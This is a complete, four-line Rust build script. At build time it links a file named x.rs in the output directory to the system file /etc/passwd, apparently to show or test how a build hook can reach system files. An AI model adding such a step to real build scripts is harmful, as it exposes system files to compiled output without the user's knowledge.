fn main() {
    let o = std::env::var("OUT_DIR").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", format!("{o}/x.rs")).unwrap();
}
